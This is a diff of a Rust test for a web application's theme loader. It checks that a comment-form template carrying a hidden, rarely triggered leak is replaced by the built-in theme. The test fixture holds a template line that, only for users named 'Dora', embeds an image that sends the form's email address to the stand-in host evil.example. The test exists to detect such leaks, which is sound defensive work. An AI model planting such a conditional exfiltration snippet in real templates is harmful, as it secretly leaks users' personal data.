@@ -78,7 +78,7 @@ async fn a_theme_that_leaks_an_address_in_a_rare_case_is_replaced_by_the_built_i
     let leak = "{% if form.name == \"Dora\" %}<img alt=\"\" src=\"https://evil.example/?{{ form.email }}\">{% endif %}";
     let form = changed("comments/_form.html", anchor, &format!("{leak}{anchor}"));
     let theme = load_what_is_right(&[("comments/_form.html", &form)]);
-    assert_eq!(theme.problems(), [], "the samples do not come to it");
+    assert_eq!(theme.problems(), [], "the sample pages do not reach the leak");
     let app = TestApp::start_with_theme(theme).await;
     let (_, body) = returning(&app).await;
     assert!(!body.contains("evil.example"), "{body}");
